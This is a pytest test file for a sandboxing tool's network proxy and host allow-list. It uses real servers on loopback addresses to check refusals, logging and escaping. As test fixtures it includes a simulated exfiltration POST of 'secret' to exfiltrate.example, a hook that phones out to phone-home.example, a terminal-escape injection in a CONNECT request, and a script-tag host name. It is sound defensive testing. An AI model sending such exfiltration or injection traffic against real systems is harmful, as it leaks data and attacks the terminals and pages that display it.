"""The network a step may reach (docs/sandbox.md), with real programs and real servers.

Servers run in the test's process on this machine's loopback: ``127.0.0.2`` and
``127.0.0.3`` are loopback addresses no client keeps direct (``NO_PROXY`` names
``127.0.0.1``), so a program in the step reaches them only through bar's proxy, which
lets the first in (it is in ``sandbox.allow_hosts``) and refuses the second.
"""

from __future__ import annotations

import http.server
import json
import os
import shlex
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from helpers import bar, ledger, new_task, set_config

from bar.base import hosts
from bar.errors import ConfigError
from bar.model import config
from bar.sandbox import UNAVAILABLE_ENV, landlock, namespace

CONFINES = landlock.abi_version() >= 1 and not os.environ.get(UNAVAILABLE_ENV)
ISOLATES = CONFINES and namespace.net_available("/") is None
isolated = pytest.mark.skipif(not ISOLATES, reason="no network namespace for a step here")
LISTED, UNLISTED = "127.0.0.2", "127.0.0.3"


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        self.server.hits.append(self.path)  # type: ignore[attr-defined]


class Site:
    """A static web server on ``address`` serving ``root``, counting the requests."""

    def __init__(self, address: str, root: Path) -> None:
        handler = lambda *a: _Quiet(*a, directory=str(root))  # noqa: E731
        self.server = http.server.ThreadingHTTPServer((address, 0), handler)
        self.server.hits = []  # type: ignore[attr-defined]
        self.port = self.server.server_address[1]
        self.url = f"http://{address}:{self.port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def hits(self) -> list[str]:
        return self.server.hits  # type: ignore[attr-defined,no-any-return]

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def site(tmp_path: Path) -> Iterator[tuple[Site, Site]]:
    root = tmp_path / "site"
    root.mkdir()
    (root / "hello.txt").write_text("hello from the site\n")
    listed, unlisted = Site(LISTED, root), Site(UNLISTED, root)
    yield listed, unlisted
    listed.close()
    unlisted.close()


@pytest.fixture
def inited(repo: Path, capfd: pytest.CaptureFixture[str]) -> Path:
    assert bar(capfd, "init").code == 0
    set_config(policy={"enabled": False})  # the network, not the policy, is under test
    return repo


def _run(capfd: pytest.CaptureFixture[str], script: str, *opts: str) -> tuple[str, dict[str, Any]]:
    res = bar(capfd, "run", "--no-pty", *opts, "--", "sh", "-c", script)
    steps = ledger(_task_id())
    return res.out + res.err, steps[-1]


def _task_id() -> str:
    from helpers import project_dir

    tid: str = json.loads((project_dir() / "state.json").read_text())["active_task_id"]
    return tid


def _seen(step: dict[str, Any]) -> list[tuple[str, int, bool]]:
    return [(c["host"], c["port"], c["allowed"]) for c in step.get("network", [])]


def _python(code: str) -> str:
    return f"{sys.executable} -c {shlex.quote(code)}"


# --- through the proxy -----------------------------------------------------------------------


@isolated
@pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
def test_curl_reaches_a_listed_host_and_is_refused_another(
    site: tuple[Site, Site], inited: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    listed, unlisted = site
    set_config(sandbox={"allow_hosts": [f"{LISTED}:{listed.port}"]})
    new_task(capfd)
    said, step = _run(
        capfd,
        f"curl -sS {listed.url}/hello.txt; curl -sS -v {unlisted.url}/hello.txt 2>&1; "
        f"curl -sS --socks5-hostname 127.0.0.1:3128 {listed.url}/hello.txt",
    )
    assert said.count("hello from the site") == 2, said
    # the program was told who refused it and what to change; so was the developer
    assert f"bar refused {UNLISTED}:{unlisted.port}: not in sandbox.allow_hosts" in said
    assert f"the step tried to reach {UNLISTED}:{unlisted.port}, which is not allowed" in said
    assert listed.hits == ["/hello.txt", "/hello.txt"] and unlisted.hits == []
    # (each connection is logged as it ends: a kept-alive one may end after the next)
    assert sorted(_seen(step)) == sorted(
        [(LISTED, listed.port, True), (UNLISTED, unlisted.port, False), (LISTED, listed.port, True)]
    )
    by_how = {(c["allowed"], c["via"]): c for c in step["network"]}
    first, refused = by_how[True, "http"], by_how[False, "http"]
    assert (True, "socks") in by_how
    assert first["bytes_in"] > len("hello from the site") and first["bytes_out"] > 0
    assert refused["bytes_in"] == refused["bytes_out"] == 0
    assert step["sandbox"]["network_mode"] == "allow-list"
    # the log marks the step; bar show lists its connections
    log = bar(capfd, "log").out
    assert f"network refused: {UNLISTED}:{unlisted.port}" in log
    shown = bar(capfd, "show", step["step_id"]).out
    assert "3 connection(s), 1 refused" in shown and f"refused  {UNLISTED}:{unlisted.port}" in shown


@isolated
def test_git_clones_over_http_from_a_listed_host_only(
    tmp_path: Path, inited: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    served = tmp_path / "served"
    served.mkdir()
    subprocess.run(["git", "clone", "-q", "--bare", str(inited), str(served / "r.git")], check=True)
    subprocess.run(["git", "update-server-info"], cwd=served / "r.git", check=True)
    listed, unlisted = Site(LISTED, served), Site(UNLISTED, served)
    try:
        set_config(sandbox={"allow_hosts": [LISTED]})  # (every port of it)
        new_task(capfd)
        said, step = _run(
            capfd,
            f"git clone -q {listed.url}/r.git $TMPDIR/a && echo CLONED; "
            f"git ls-remote {unlisted.url}/r.git || echo REFUSED",
        )
    finally:
        listed.close()
        unlisted.close()
    assert "CLONED" in said and "REFUSED" in said, said
    assert unlisted.hits == []
    assert (LISTED, listed.port, True) in _seen(step)
    assert (UNLISTED, unlisted.port, False) in _seen(step)


@isolated
def test_python_urllib_goes_through_the_proxy_and_hears_why_it_was_refused(
    site: tuple[Site, Site], inited: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    listed, _ = site
    set_config(sandbox={"allow_hosts": [LISTED]})
    new_task(capfd)
    fetch = (
        "import urllib.request as u\n"
        f'print(u.urlopen("{listed.url}/hello.txt").read().decode())\n'
        "try:\n"
        '    u.urlopen("https://exfiltrate.example/upload", data=b"secret")\n'
        "except OSError as e:\n"
        '    print("REFUSED", e)\n'
    )
    said, step = _run(capfd, _python(fetch))
    assert "hello from the site" in said
    assert "REFUSED" in said and "bar refused exfiltrate.example:443" in said, said
    # the name was never looked up (it is not listed): the proxy refused it as named (the
    # listed site's connection may be logged after it: when it closed, as the program ended)
    seen = _seen(step)
    assert ("exfiltrate.example", 443, False) in seen, seen
    assert [c for c in seen if not c[2]] == [("exfiltrate.example", 443, False)], seen


@isolated
def test_names_are_resolved_by_bar_not_in_the_step(
    tmp_path: Path, inited: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    set_config(sandbox={"allow_hosts": ["localhost"]})
    new_task(capfd)
    own = Site("127.0.0.1", tmp_path)  # (on bar's side)
    try:
        said, step = _run(
            capfd,
            # a proxy-aware client asked for a name: the name travels to the proxy
            f"curl -sS -o /dev/null -w '%{{http_code}}\\n' -x http://127.0.0.1:3128 --noproxy '' "
            f"http://localhost:{own.port}/ ; "
            + _python(
                "import socket\n"
                "try:\n"
                '    socket.getaddrinfo("pypi.org", 443)\n'
                '    print("RESOLVED")\n'
                "except OSError as e:\n"
                '    print("NO DNS", e)'
            ),
        )
    finally:
        own.close()
    if shutil.which("curl"):
        assert "200" in said and ("localhost", own.port, True) in _seen(step)
    assert "NO DNS" in said and "RESOLVED" not in said


@isolated
def test_a_hostile_name_asked_of_the_proxy_is_refused_and_recorded_printable(
    inited: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    new_task(capfd)
    ask = (
        "import socket\n"
        's = socket.create_connection(("127.0.0.1", 3128))\n'
        's.sendall(b"CONNECT \\x1b]0;pwned\\x07evil.example:443 HTTP/1.1\\r\\n\\r\\n")\n'
        'print(s.recv(100).split(b"\\r\\n")[0].decode())\n'
    )
    said, step = _run(capfd, _python(ask))
    assert "HTTP/1.1 403 bar refused" in said, said
    (refused,) = step["network"]
    assert refused["allowed"] is False and refused["host"] == "?]0;pwned?evil.example"
    assert "\x1b" not in bar(capfd, "show", step["step_id"]).out


# --- around the proxy ----------------------------------------------------------------------


@isolated
def test_a_raw_connection_has_no_route_and_the_step_s_loopback_is_its_own(
    tmp_path: Path, inited: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    outside = Site("127.0.0.1", tmp_path)  # on bar's loopback, not listed
    try:
        new_task(capfd)
        probe = (
            "import socket, threading\n"
            f'for where in (("192.0.2.1", 80), ("127.0.0.1", {outside.port})):\n'
            "    try:\n"
            "        socket.create_connection(where, timeout=5)\n"
            '        print("CONNECTED", where)\n'
            "    except OSError as e:\n"
            '        print("FAILED", where, e.errno)\n'
            'own = socket.create_server(("127.0.0.1", 0))\n'
            'answer = lambda: own.accept()[0].sendall(b"mine")\n'
            "threading.Thread(target=answer, daemon=True).start()\n"
            "c = socket.create_connection(own.getsockname())\n"
            'print("OWN", c.recv(4).decode())\n'
        )
        said, step = _run(capfd, _python(probe))
    finally:
        outside.close()
    assert "FAILED ('192.0.2.1', 80) 101" in said, said  # ENETUNREACH: no route out
    assert f"FAILED ('127.0.0.1', {outside.port}) 111" in said  # ECONNREFUSED: its own
    assert "OWN mine" in said
    assert outside.hits == [] and "network" not in step


@isolated
def test_an_agent_s_base_url_on_loopback_is_reached_directly_too(
    tmp_path: Path, inited: Path, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    model = Site("127.0.0.1", tmp_path)
    (tmp_path / "v1").write_text("model here\n")
    monkeypatch.setenv("ANTHROPIC_BASE_URL", model.url)
    try:
        new_task(capfd)
        raw = (
            "import socket\n"
            f's = socket.create_connection(("127.0.0.1", {model.port}))\n'
            's.sendall(b"GET /v1 HTTP/1.0\\r\\n\\r\\n")\n'
            "print(s.makefile().read().splitlines()[-1])\n"
        )
        said, step = _run(capfd, _python(raw))
    finally:
        model.close()
    assert "model here" in said, said
    assert step["network"][0] | {"started_at": "", "bytes_out": 0, "bytes_in": 0} == {
        "host": "127.0.0.1",
        "port": model.port,
        "allowed": True,
        "via": "forward",
        "started_at": "",
        "bytes_out": 0,
        "bytes_in": 0,
    }


@isolated
def test_network_open_is_as_before_and_none_reaches_nothing(
    site: tuple[Site, Site], inited: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    listed, _ = site
    new_task(capfd)
    get = _python(
        "import socket\n"
        "try:\n"
        f'    s = socket.create_connection(("{LISTED}", {listed.port}), timeout=5)\n'
        '    s.sendall(b"GET /hello.txt HTTP/1.0\\r\\n\\r\\n")\n'
        "    print(s.makefile().read().splitlines()[-1])\n"
        "except OSError as e:\n"
        '    print("FAILED", e)\n'
        "import os\n"
        'print("PROXY", os.environ.get("HTTPS_PROXY"))'
    )
    said, step = _run(capfd, get, "--network", "open")
    assert "hello from the site" in said and "PROXY None" in said
    assert step["sandbox"]["network_mode"] == "open" and "network" not in step
    set_config(sandbox={"network": "none", "allow_hosts": [LISTED]})
    said, step = _run(capfd, get)
    assert "FAILED" in said and "PROXY None" in said
    assert step["sandbox"]["network"] is False and step["sandbox"]["network_mode"] == "none"
    assert listed.hits == ["/hello.txt"]


@pytest.mark.skipif(not CONFINES or landlock.abi_version() < 4, reason="needs Landlock ABI 4")
def test_without_a_namespace_the_proxy_is_the_only_way_out(
    site: tuple[Site, Site],
    inited: Path,
    capfd: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    listed, unlisted = site
    monkeypatch.setenv(namespace.NO_NET_ENV, "1")
    set_config(sandbox={"allow_hosts": [LISTED]})
    new_task(capfd)
    set_config(sandbox={"allow_hosts": [f"{LISTED}:{listed.port}"]})
    fetch = (
        "import os, socket, urllib.request as u\n"
        'print("PROXY", os.environ["HTTP_PROXY"] != "http://127.0.0.1:3128")\n'
        f'print(u.urlopen("{listed.url}/hello.txt").read().decode())\n'
        # unlisted, and (a rule names a port, not an address) the listed port elsewhere
        f'for where in (("{UNLISTED}", {unlisted.port}), ("{UNLISTED}", {listed.port})):\n'
        "    try:\n"
        "        socket.create_connection(where, timeout=5)\n"
        '        print("CONNECTED")\n'
        "    except OSError as e:\n"
        '        print("FAILED", e.errno)\n'
    )
    said, step = _run(capfd, _python(fetch))
    assert "PROXY True" in said and "hello from the site" in said, said
    assert said.count("FAILED 13") == 2 and unlisted.hits == []  # EACCES: Landlock's
    assert "its UDP (DNS too) is not" in said
    assert (LISTED, listed.port, True) in _seen(step)


# --- the settings ----------------------------------------------------------------------------


def test_network_settings_read_old_and_new_values(tmp_path: Path) -> None:
    path = tmp_path / "config.yaml"
    assert config.network_mode(True, "sandbox.network", path) == "allow-list"
    assert config.network_mode(False, "sandbox.network", path) == "none"
    assert config.network_mode("open", "sandbox.network", path) == "open"
    with pytest.raises(ConfigError, match="must be open, allow-list or none"):
        config.network_mode("proxy", "sandbox.network", path)
    assert config.tighter_network("open", "none") == "none"
    assert config.tighter_network("allow-list", "open") == "allow-list"
    assert config.SandboxConfig().network == "allow-list"


@pytest.mark.parametrize(
    ("entry", "why"),
    [("*", "network: open"), ("a b", "not a host"), ("h:0", "not a port"), ("[::1", "end with ]")],
)
def test_a_bad_host_entry_is_named(
    entry: str, why: str, inited: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    set_config(sandbox={"allow_hosts": ["pypi.org", entry]})
    res = bar(capfd, "status")
    assert res.code != 0 and "sandbox.allow_hosts" in res.err and why in res.err, res.err


@pytest.mark.parametrize(
    ("pattern", "host", "port", "admitted"),
    [
        ("pypi.org", "PyPI.org.", 443, True),
        ("pypi.org", "evil-pypi.org", 443, False),
        ("*.example.com", "a.b.example.com", 80, True),
        ("*.example.com", "example.com", 80, False),
        ("*.example.com", "example.com.evil.net", 80, False),
        ("127.0.0.1:8080", "127.0.0.1", 8080, True),
        ("127.0.0.1:8080", "127.0.0.1", 8081, False),
        ("[::1]:9", "0:0::1", 9, True),
        ("::1", "::1", 1, True),
    ],
)
def test_host_patterns(pattern: str, host: str, port: int, admitted: bool) -> None:
    assert hosts.invalid(pattern) is None
    assert hosts.admitted((hosts.parse(pattern),), host, port) is admitted


def test_the_step_page_lists_the_connections_and_escapes_them() -> None:
    from bar.ui.step_pages import _network_section

    base = {"bytes_out": 10, "bytes_in": 20, "started_at": "t", "via": "http"}
    html = _network_section(
        [
            {**base, "host": "<script>x</script>", "port": 443, "allowed": False},
            {**base, "host": "pypi.org", "port": 443, "allowed": True},
        ]
    )
    assert "2 connection(s), 1 refused" in html and "refused" in html
    assert "<script>" not in html and "&lt;script&gt;" in html


@isolated
def test_a_repository_hook_s_connections_are_the_step_s(
    inited: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    """The repository's hooks run confined like the step: a pre_run hook that phones out
    is refused, fails, and its refused connection is in the step that did not run."""
    (inited / ".bar").mkdir(exist_ok=True)
    hook = _python('import urllib.request as u; u.urlopen("http://phone-home.example/")')
    (inited / ".bar" / "config.yaml").write_text(
        json.dumps({"version": 1, "hooks": {"pre_run": [hook]}})
    )
    new_task(capfd)
    said, step = _run(capfd, "echo never")
    assert step["stopped_by"] == "pre_run" and "never" not in said.split("bar:")[0]
    assert _seen(step) == [("phone-home.example", 80, False)]


@isolated
def test_connections_survive_a_bar_killed_mid_step(
    inited: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    import signal
    import time

    from helpers import BAR_EXE, all_gone, descendants, task_dir

    t = new_task(capfd)
    log = task_dir(t["id"]) / "artifacts" / "0001.network.jsonl"
    script = (
        _python(
            'import urllib.request as u\ntry: u.urlopen("http://gone.example/")\nexcept OSError: pass'
        )
        + "; sleep 60"
    )
    proc = subprocess.Popen(
        [BAR_EXE, "run", "--no-pty", "--", "sh", "-c", script],
        cwd=inited,
        env={**os.environ, "BAR_RESIDENT_IDLE": "0"},  # (its holder is its child)
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    deadline = time.monotonic() + 60
    while not (log.exists() and log.read_text().endswith("\n")) and time.monotonic() < deadline:
        time.sleep(0.05)
    held = descendants(proc.pid)  # its holder and the step
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    all_gone(held)  # (the holder saw bar go, and stopped the step)
    assert bar(capfd, "run", "--no-pty", "--", "true").code == 0  # (it records step 1 first)
    step = ledger(t["id"])[0]
    assert step["interrupted"] is True
    assert _seen(step) == [("gone.example", 80, False)]
    assert not log.exists()


@isolated
@pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
def test_socks5_with_a_name_and_malformed_requests_leave_no_trace_on_bar(
    tmp_path: Path, inited: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    own = Site("127.0.0.1", tmp_path)  # (on bar's side, reached by name)
    (tmp_path / "x").write_text("by name\n")
    set_config(sandbox={"allow_hosts": [f"localhost:{own.port}"]})
    new_task(capfd)
    bad = (
        "import socket\n"
        "for line in (b'GET http://127.0.0.2:99999/ HTTP/1.1', b'GET http://[::1/ HTTP/1.1',"
        " b'CONNECT \\x85127.0.0.2:80 HTTP/1.1', b'CONNECT \\x0c127.0.0.2.:80 HTTP/1.1'):\n"
        '    s = socket.create_connection(("127.0.0.1", 3128))\n'
        '    s.sendall(line + b"\\r\\n\\r\\n")\n'
        "    print((s.recv(200).split(b'\\r\\n')[0] or b'closed').decode())\n"
    )
    try:
        said, step = _run(
            capfd,
            f"curl -sS --socks5-hostname 127.0.0.1:3128 http://localhost:{own.port}/x; "
            + _python(bad),
        )
    finally:
        own.close()
    assert "by name" in said and "Traceback" not in said, said
    assert said.count("HTTP/1.1 400") == 2 and said.count("HTTP/1.1 403") == 2
    assert ("localhost", own.port, True) in _seen(step)


@isolated
def test_refusals_cannot_crowd_out_what_was_let_through(
    site: tuple[Site, Site], inited: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    from bar.sandbox import network

    listed, _ = site
    set_config(sandbox={"allow_hosts": [LISTED]})
    new_task(capfd)
    flood = (
        "import socket, urllib.request as u\n"
        f"for i in range({network._RECORDS_MAX + 5}):\n"
        '    s = socket.create_connection(("127.0.0.1", 3128))\n'
        '    s.sendall(b"CONNECT flood.example:%d HTTP/1.1\\r\\n\\r\\n" % (1 + i % 3))\n'
        "    s.recv(100)\n"
        f'print(u.urlopen("{listed.url}/hello.txt").read().decode())\n'
    )
    said, step = _run(capfd, _python(flood))
    assert "hello from the site" in said
    refused = [c for c in step["network"] if not c["allowed"]]
    assert sum(c.get("count", 1) for c in refused) == network._RECORDS_MAX + 5
    assert {c["port"] for c in refused if "count" in c} == {1, 2, 3}
    assert (LISTED, listed.port, True) in _seen(step)
